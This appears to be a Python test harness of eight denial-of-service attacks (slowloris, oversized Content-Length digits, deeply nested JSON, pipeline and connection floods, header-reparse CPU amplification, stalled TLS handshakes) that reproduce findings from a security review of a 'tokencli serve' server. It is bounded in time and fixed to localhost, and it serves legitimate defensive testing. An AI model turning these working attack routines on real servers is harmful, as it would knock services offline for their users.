"""Hostile HTTP clients, one attack per process, for bench/hostile.py.

Usage: python attackers.py ATTACK PORT SECONDS [COUNT]

Each attack reproduces one finding of the security review against `tokencli serve`. It
sends to 127.0.0.1 only (there is no host argument), stops by itself after SECONDS or at
SIGTERM, closes every socket it opened (with a reset, so no TIME_WAIT is left behind), and
prints JSON lines on stdout: {"ready": {...}} once it is at full strength, then
{"done": {...}} with what it saw. The attacks that hold many connections (c, g, h) open
one again whenever the server closes one, so they keep their strength against a server
that times them out. Standard library only: it runs in any Python 3.11.
"""

from __future__ import annotations

import contextlib
import errno
import json
import resource
import selectors
import signal
import socket
import ssl
import struct
import sys
import threading
import time
from collections import Counter, deque
from collections.abc import Callable
from typing import Any

HOST = "127.0.0.1"
HEALTH = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
CONNECT_TIMEOUT = 3.0


class Run:
    """The attack's bounds: a deadline, and a stop flag that SIGTERM raises."""

    def __init__(self, seconds: float) -> None:
        self.deadline = time.monotonic() + seconds
        self.stopped = threading.Event()
        signal.signal(signal.SIGTERM, lambda *_: self.stopped.set())

    def going(self) -> bool:
        return not self.stopped.is_set() and time.monotonic() < self.deadline

    def sleep(self, seconds: float) -> None:
        """Sleep, but wake at once on SIGTERM or at the deadline."""
        self.stopped.wait(max(0.0, min(seconds, self.deadline - time.monotonic())))


def emit(kind: str, payload: dict[str, Any]) -> None:
    """One JSON line for the harness."""
    print(json.dumps({kind: payload}), flush=True)


def connect(port: int, *, rcvbuf: int | None = None, nodelay: bool = False) -> socket.socket:
    """A connection to the server under test on 127.0.0.1."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        if rcvbuf is not None:
            # Before connect, so the window the client advertises is small from the start.
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if nodelay:
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(CONNECT_TIMEOUT)
        sock.connect((HOST, port))
    except BaseException:
        sock.close()
        raise
    return sock


def close_hard(sock: socket.socket) -> None:
    """Close with a reset: tens of thousands of TIME_WAIT sockets would outlive the run."""
    with contextlib.suppress(OSError):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()


def raise_fd_limit() -> int:
    """Allow as many descriptors as the hard limit does; returns the new soft limit."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = 65536 if hard == resource.RLIM_INFINITY else hard
    with contextlib.suppress(ValueError, OSError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted, hard))
        soft = wanted
    return soft


def read_response(sock: socket.socket, buffer: bytearray) -> str:
    """Read one whole response; returns its status code, or what went wrong instead."""
    try:
        while b"\r\n\r\n" not in buffer:
            data = sock.recv(65536)
            if not data:
                return "closed" if not buffer else "truncated"
            buffer += data
        head, _, _ = bytes(buffer).partition(b"\r\n\r\n")
        length = 0
        for line in head.split(b"\r\n")[1:]:
            name, _, value = line.partition(b":")
            if name.strip().lower() == b"content-length":
                length = int(value.strip())
        needed = len(head) + 4 + length
        while len(buffer) < needed:
            data = sock.recv(65536)
            if not data:
                return "truncated"
            buffer += data
        del buffer[:needed]
        parts = head.split(b" ", 2)
        return parts[1].decode("ascii", "replace") if len(parts) > 1 else "garbled"
    except TimeoutError:
        return "timeout"
    except ConnectionResetError:
        return "reset"
    except OSError as error:
        return type(error).__name__


def in_threads(clients: int, target: Callable[[int], None], run: Run) -> None:
    """Run `target(index)` in `clients` threads and wait for them, bounded by the run."""
    threads = [
        threading.Thread(target=target, args=(index,), daemon=True) for index in range(clients)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=max(0.0, run.deadline - time.monotonic()) + 5.0)


# -- the attacks -----------------------------------------------------------------------


def content_length(port: int, run: Run, count: int) -> dict[str, Any]:
    """(a) POST /app/token whose Content-Length is 4,301 zeros, then one of 5,000 digits.

    Python refuses to turn more than 4,300 digits into an int (ValueError), and the
    server's parser let that escape. Repeated every half second, each on a new connection.
    """
    variants = {"zeros-4301": b"0" * 4301, "digits-5000": b"9" * 5000}
    outcomes: dict[str, Counter[str]] = {name: Counter() for name in variants}
    rounds = 0
    while run.going() and rounds < 200:
        for name, value in variants.items():
            request = (
                b"POST /app/token HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                b"Content-Type: application/json\r\nContent-Length: " + value + b"\r\n\r\n"
            )
            try:
                sock = connect(port)
            except OSError as error:
                outcomes[name][
                    "refused" if isinstance(error, ConnectionRefusedError) else "connect-failed"
                ] += 1
                continue
            try:
                sock.settimeout(2.0)
                sock.sendall(request)
                outcomes[name][read_response(sock, bytearray())] += 1
            except OSError as error:
                outcomes[name][type(error).__name__] += 1
            finally:
                close_hard(sock)
        if rounds == 0:
            emit("ready", {"first_round": {name: dict(seen) for name, seen in outcomes.items()}})
        rounds += 1
        run.sleep(0.5)
    return {"rounds": rounds, "outcomes": {name: dict(seen) for name, seen in outcomes.items()}}


def deep_json(port: int, run: Run, count: int) -> dict[str, Any]:
    """(b) POST /app/token with a body of 20,000 `[`: json.loads raises RecursionError.

    `count` clients (default 3), each on a keep-alive connection, send it again as soon as
    the answer arrives.
    """
    body = b"[" * 20_000
    request = (
        b"POST /app/token HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
    )
    statuses: Counter[str] = Counter()
    lock = threading.Lock()
    first = threading.Event()

    def client(index: int) -> None:
        sock: socket.socket | None = None
        buffer = bytearray()
        while run.going():
            if sock is None:
                try:
                    sock = connect(port)
                    sock.settimeout(2.0)
                    buffer.clear()
                except OSError:
                    with lock:
                        statuses["connect-failed"] += 1
                    run.sleep(0.2)
                    continue
            try:
                sock.sendall(request)
                status = read_response(sock, buffer)
            except OSError as error:
                status = type(error).__name__
            with lock:
                statuses[status] += 1
            first.set()
            if not status.isdigit():
                close_hard(sock)
                sock = None
        if sock is not None:
            close_hard(sock)

    threads = [threading.Thread(target=client, args=(i,), daemon=True) for i in range(count or 3)]
    for thread in threads:
        thread.start()
    first.wait(5.0)
    with lock:
        emit("ready", {"statuses": dict(statuses)})
    for thread in threads:
        thread.join(timeout=max(0.0, run.deadline - time.monotonic()) + 5.0)
    return {"clients": len(threads), "statuses": dict(statuses)}


class Holder:
    """Holds `count` connections open against the server, opening one anew whenever the
    server closes one, so the attack keeps its strength for as long as it runs.

    Connects are non-blocking (at most 256 in flight), so a server that has stopped
    accepting slows the reopening down without stalling the connections already held.
    `on_open(sock, index)` sends what the attack sends first; a connection that becomes
    readable has been answered or closed by the server: it is closed (with a reset) and
    opened again. `ramp()` opens them all (or gives up after 20 s); `hold()` keeps them
    until the run ends, calling `tick(held)` every 50 ms.
    """

    MAX_CONNECTING = 256

    def __init__(
        self,
        port: int,
        run: Run,
        count: int,
        on_open: Callable[[socket.socket, int], None],
    ) -> None:
        self.port = port
        self.run = run
        self.count = count
        self.on_open = on_open
        self.selector = selectors.DefaultSelector()
        # socket -> (index, connect deadline or 0 once connected)
        self.sockets: dict[socket.socket, tuple[int, float]] = {}
        self.to_open: deque[int] = deque(range(count))
        self.opened = 0  # connections the server accepted (connect completed)
        self.reopened = 0
        self.closed_by_server = 0
        self.failed = 0

    @property
    def held(self) -> int:
        return sum(1 for _, deadline in self.sockets.values() if not deadline)

    def _start_connects(self) -> None:
        connecting = sum(1 for _, deadline in self.sockets.values() if deadline)
        while self.to_open and connecting < self.MAX_CONNECTING:
            index = self.to_open.popleft()
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            error = sock.connect_ex((HOST, self.port))
            if error not in (0, errno.EINPROGRESS, errno.EAGAIN):
                sock.close()
                self.failed += 1
                self.to_open.append(index)
                return  # out of ports or descriptors: try again on the next turn
            self.sockets[sock] = (index, time.monotonic() + CONNECT_TIMEOUT)
            self.selector.register(sock, selectors.EVENT_WRITE)
            connecting += 1

    def _drop(self, sock: socket.socket, *, reopen: bool) -> None:
        index, _ = self.sockets.pop(sock)
        with contextlib.suppress(KeyError, ValueError):
            self.selector.unregister(sock)
        close_hard(sock)
        if reopen:
            self.to_open.append(index)

    def _events(self, timeout: float) -> None:
        for key, _ in self.selector.select(timeout=timeout):
            sock = key.fileobj
            assert isinstance(sock, socket.socket)
            if sock not in self.sockets:
                continue
            index, deadline = self.sockets[sock]
            if deadline:  # a connect finished, one way or the other
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    self.failed += 1
                    self._drop(sock, reopen=True)
                    continue
                self.sockets[sock] = (index, 0.0)
                self.opened += 1
                self.selector.modify(sock, selectors.EVENT_READ)
                try:
                    self.on_open(sock, index)
                except OSError:
                    self.closed_by_server += 1
                    self._drop(sock, reopen=True)
            else:  # readable: the server answered (an error, an alert) or closed it
                self.closed_by_server += 1
                self.reopened += 1
                self._drop(sock, reopen=True)
        now = time.monotonic()
        for sock, (_, deadline) in list(self.sockets.items()):
            if deadline and now > deadline:
                self.failed += 1
                self._drop(sock, reopen=True)

    def ramp(self) -> None:
        give_up = time.monotonic() + 20.0
        while self.run.going() and time.monotonic() < give_up and self.held < self.count:
            self._start_connects()
            self._events(0.01)

    def hold(self, tick: Callable[[dict[socket.socket, tuple[int, float]]], None] | None) -> None:
        while self.run.going():
            self._start_connects()
            self._events(0.05)
            if tick is not None:
                tick(self.sockets)

    def close(self) -> None:
        for sock in list(self.sockets):
            self._drop(sock, reopen=False)
        self.selector.close()

    def summary(self) -> dict[str, Any]:
        return {
            "held_at_end": self.held,
            "opened": self.opened,
            "reopened": self.reopened,
            "closed_by_server": self.closed_by_server,
            "failed_connects": self.failed,
        }


def slowloris(port: int, run: Run, count: int) -> dict[str, Any]:
    """(c) `count` connections, each sending a request one byte every 5 s, never finishing.

    Every byte counts as activity, so a timeout that restarts on each read never fires.
    Each connection keeps its own 5 s rhythm from the moment it opened. When the server
    answers or closes one (a request timeout), it is opened again at once, as a real
    slowloris does, so the attack does not fade as the server times connections out.
    """
    request = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 1000
    # (when the next byte is due, socket, index of that byte), in order of due time
    due: deque[tuple[float, socket.socket, int]] = deque()
    sent = Counter[str]()

    def on_open(sock: socket.socket, index: int) -> None:
        sock.send(request[:1])
        due.append((time.monotonic() + 5.0, sock, 1))

    def send_due(held: dict[socket.socket, tuple[int, float]]) -> None:
        now = time.monotonic()
        while due and due[0][0] <= now:
            when, sock, position = due.popleft()
            if sock not in held:
                continue  # closed and reopened meanwhile
            try:
                sock.send(request[position : position + 1])
                sent["bytes"] += 1
            except OSError:
                sent["send_failed"] += 1
                continue  # the server closed it; the holder sees that and reopens
            due.append((when + 5.0, sock, min(position + 1, len(request) - 1)))

    holder = Holder(port, run, count, on_open)
    try:
        holder.ramp()
        emit("ready", {"held": holder.held, "failed_connects": holder.failed})
        holder.hold(send_due)
        summary = holder.summary()
    finally:
        holder.close()
    return {**summary, **sent}


def no_read(port: int, run: Run, count: int) -> dict[str, Any]:
    """(d) `count` clients (default 5) with a 1 KiB receive buffer pipeline GET /health as
    fast as they can and never read an answer; when the server hangs up they reconnect."""
    chunk = HEALTH * 100
    totals: Counter[str] = Counter()
    lock = threading.Lock()

    def client(index: int) -> None:
        sock: socket.socket | None = None
        pending = memoryview(b"")
        while run.going():
            if sock is None:
                try:
                    sock = connect(port, rcvbuf=1024)
                    sock.settimeout(0.5)
                except OSError:
                    with lock:
                        totals["connect_failed"] += 1
                    run.sleep(0.2)
                    continue
                with lock:
                    totals["connections"] += 1
                pending = memoryview(b"")
            if not pending:
                pending = memoryview(chunk)
            try:
                sent = sock.send(pending)
                pending = pending[sent:]
                with lock:
                    totals["bytes_sent"] += sent
            except TimeoutError:
                continue  # both send buffers are full: the server is not reading either
            except OSError:
                with lock:
                    totals["closed_by_server"] += 1
                close_hard(sock)
                sock = None
        if sock is not None:
            close_hard(sock)

    emit("ready", {"clients": count or 5})
    in_threads(count or 5, client, run)
    return dict(totals)


def pipeline_flood(port: int, run: Run, count: int) -> dict[str, Any]:
    """(e) `count` clients (default 2) pipeline GET /health far faster than the answers
    leave, and read the answers 64 KiB every 10 ms: much slower than they send, fast
    enough that the server never waits to send (a stalled send is attack d). What the
    server reads ahead piles up in memory. Each client stops sending after 256 MiB."""
    cap = 256 * 1024 * 1024
    chunk = HEALTH * 1000
    totals: Counter[str] = Counter()
    lock = threading.Lock()

    def client(index: int) -> None:
        sent_total = 0
        while run.going() and sent_total < cap:
            try:
                sock = connect(port)
            except OSError:
                with lock:
                    totals["connect_failed"] += 1
                run.sleep(0.2)
                continue
            sock.settimeout(0.5)
            done = threading.Event()

            def read_slowly(sock: socket.socket = sock, done: threading.Event = done) -> None:
                while run.going() and not done.is_set():
                    try:
                        data = sock.recv(65536)
                    except TimeoutError:
                        continue
                    except OSError:
                        return
                    if not data:
                        return
                    with lock:
                        totals["bytes_read"] += len(data)
                    run.sleep(0.01)

            reader = threading.Thread(target=read_slowly, daemon=True)
            reader.start()
            pending = memoryview(chunk)
            try:
                while run.going():
                    if sent_total >= cap:
                        # Past the cap, keep the connection (and the slow reading) going:
                        # the server still has all it buffered to answer.
                        run.sleep(0.1)
                        continue
                    try:
                        sent = sock.send(pending)
                    except TimeoutError:
                        continue
                    sent_total += sent
                    pending = pending[sent:] or memoryview(chunk)
                    with lock:
                        totals["bytes_sent"] += sent
            except OSError:
                with lock:
                    totals["closed_by_server"] += 1
            finally:
                done.set()
                reader.join(timeout=2.0)
                close_hard(sock)

    emit("ready", {"clients": count or 2})
    in_threads(count or 2, client, run)
    return dict(totals)


def cpu_amplification(port: int, run: Run, count: int) -> dict[str, Any]:
    """(f) `count` connections (default 20) send 62 KB of headers, then a 60,000-byte body
    4 bytes at a time: a parser that re-reads the whole head on every arrival does
    ~62 KB of work per 4 bytes received."""
    filler = b"".join(b"X-Filler-%04d: " % index + b"a" * 46 + b"\r\n" for index in range(1000))
    head = (
        b"POST /app/token HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Content-Length: 60000\r\n" + filler + b"\r\n"
    )
    body = b'{"label": "' + b"a" * (60_000 - 13) + b'"}'
    if len(body) != 60_000:
        raise AssertionError("the body must match its Content-Length")
    connections: list[tuple[socket.socket, list[int]]] = []
    totals: Counter[str] = Counter()

    def start(sock: socket.socket) -> None:
        sock.settimeout(5.0)
        sock.sendall(head)
        sock.setblocking(False)

    try:
        for _ in range(count or 20):
            try:
                sock = connect(port, nodelay=True)
                start(sock)
            except OSError:
                totals["connect_failed"] += 1
                continue
            connections.append((sock, [0]))
        emit("ready", {"connections": len(connections), "head_bytes": len(head)})
        while run.going() and connections:
            for sock, offset in connections:
                try:
                    if offset[0] < len(body):
                        sent = sock.send(body[offset[0] : offset[0] + 4])
                        offset[0] += sent
                        totals["sends"] += 1
                    else:
                        # Whole request sent: drop its answer, then send the next one.
                        with contextlib.suppress(BlockingIOError):
                            sock.recv(65536)
                        totals["requests_completed"] += 1
                        sock.setblocking(True)
                        start(sock)
                        offset[0] = 0
                except BlockingIOError:
                    totals["send_blocked"] += 1
                except OSError:
                    totals["send_failed"] += 1
            run.sleep(0.002)
    finally:
        for sock, _ in connections:
            close_hard(sock)
    return dict(totals)


def connection_flood(port: int, run: Run, count: int) -> dict[str, Any]:
    """(g) Hold `count` connections idle, sending nothing; one the server closes (an idle
    timeout) is opened again at once."""
    holder = Holder(port, run, count, lambda sock, index: None)
    try:
        holder.ramp()
        emit("ready", {"held": holder.held, "failed_connects": holder.failed})
        holder.hold(None)
        return holder.summary()
    finally:
        holder.close()


def client_hello() -> bytes:
    """The bytes of a real TLS ClientHello, as Python's ssl module sends it first."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def tls_stall(port: int, run: Run, count: int) -> dict[str, Any]:
    """(h) `count` connections to the HTTPS server that never finish their handshake:
    every other one sends the first half of a real ClientHello, the rest send nothing.
    One the server closes (a handshake timeout) is opened again at once."""
    hello = client_hello()
    half = hello[: len(hello) // 2]

    def on_open(sock: socket.socket, index: int) -> None:
        if index % 2 == 0:
            sock.send(half)

    holder = Holder(port, run, count, on_open)
    try:
        holder.ramp()
        emit(
            "ready",
            {"held": holder.held, "failed_connects": holder.failed, "hello_bytes": len(hello)},
        )
        holder.hold(None)
        return {**holder.summary(), "half_hello_bytes": len(half)}
    finally:
        holder.close()


ATTACKS: dict[str, Callable[[int, Run, int], dict[str, Any]]] = {
    "content_length": content_length,
    "deep_json": deep_json,
    "slowloris": slowloris,
    "no_read": no_read,
    "pipeline_flood": pipeline_flood,
    "cpu_amplification": cpu_amplification,
    "connection_flood": connection_flood,
    "tls_stall": tls_stall,
}


def main(argv: list[str]) -> int:
    """Run one attack; the harness reads the JSON lines it prints."""
    name, port, seconds = argv[0], int(argv[1]), float(argv[2])
    count = int(argv[3]) if len(argv) > 3 else 0
    if not 0 < seconds <= 120:
        raise SystemExit("SECONDS must be in (0, 120]: every attack is bounded")
    raise_fd_limit()
    run = Run(seconds)
    started = time.monotonic()
    summary = ATTACKS[name](port, run, count)
    summary["seconds"] = round(time.monotonic() - started, 1)
    emit("done", summary)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
